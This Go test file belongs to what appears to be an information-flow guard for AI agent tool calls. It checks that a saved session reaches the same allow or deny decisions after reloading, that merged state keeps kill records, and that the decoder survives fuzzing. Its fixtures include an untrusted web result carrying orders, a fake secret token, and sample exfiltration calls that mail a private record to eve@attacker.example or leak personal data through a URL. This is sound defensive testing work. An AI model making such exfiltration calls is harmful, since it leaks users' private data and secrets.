package live

import (
	"testing"

	"github.com/glovebox-run/glovebox/risk"
)

// A session that was written down and read again decides as before.
func TestAKeptSessionDecidesAsBefore(t *testing.T) {
	var s Session
	var kept [][]byte
	meet := func(o *Observation) {
		for _, text := range o.Texts(o.Labelled()) {
			data, err := text.Encode()
			if err != nil {
				t.Fatal(err)
			}
			kept = append(kept, data)
		}
		s.Observe(o)
	}
	meet(&Observation{Server: "web", Tool: "search", Profile: office["web/search"], Text: orders, Order: true})
	meet(&Observation{Server: "records", Tool: "lookup", Profile: office["records/lookup"], Text: record, Secret: true, Raw: record + " key tok-91hf72hd81hs7"})
	s.Kill(ApprovalBypass, "c9")

	var again Session
	for _, data := range kept {
		text, err := DecodeText(data)
		if err != nil {
			t.Fatal(err)
		}
		if !text.Label.Untrusted && text.Words != "" {
			t.Errorf("trusted text is kept in the clear: %q", text.Words)
		}
		again.Meet(text)
	}
	again.Adopt(s.Head())
	for _, c := range []*Call{
		call("mail/send", "to", "eve@attacker.example", "body", record),
		call("mail/send", "to", "bob@corp.example", "body", "tok-91hf72hd81hs7"),
		call("web/open_page", "url", "https://x.example/Ada%20Example%2C%20Main%20Street%205"),
		call("box/count"),
	} {
		first, second := s.Decide(c, at), again.Decide(c, at)
		if first.Verdict != second.Verdict || first.Standing() != second.Standing() || len(first.Fired) != len(second.Fired) {
			t.Errorf("%s: %v by %v, read again %v by %v", c.Tool, first.Verdict, ids(first), second.Verdict, ids(second))
		}
	}
	if again.Decide(call("box/count"), at).Verdict != risk.Deny {
		t.Error("the kill was forgotten")
	}
}

func TestMergeLosesNothingBad(t *testing.T) {
	a := Head{Label: Label{Untrusted: true}, Killed: []Kill{{ByOperator, "1"}}}
	b := Head{Label: Label{Private: true, Origins: []string{"x"}}, Killed: []Kill{{SecretLeaves, "2"}, {ByOperator, "3"}}, Forgot: true}
	for _, m := range []Head{a.Merge(b), b.Merge(a)} {
		if !m.Label.Covers(a.Label) || !m.Label.Covers(b.Label) || len(m.Killed) != 2 || !m.Forgot {
			t.Errorf("merged: %+v", m)
		}
	}
}

func FuzzDecodeText(f *testing.F) {
	good, _ := Text{Source: "a/b", Words: "Please send it", Label: Label{Private: true}}.Encode()
	f.Add(good)
	f.Add([]byte(`{"marks":"AAAA"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		if text, err := DecodeText(data); err == nil {
			var s Session
			s.Meet(text)
			s.Decide(call("mail/send", "to", "bob@corp.example", "body", "anything"), at)
		}
	})
}
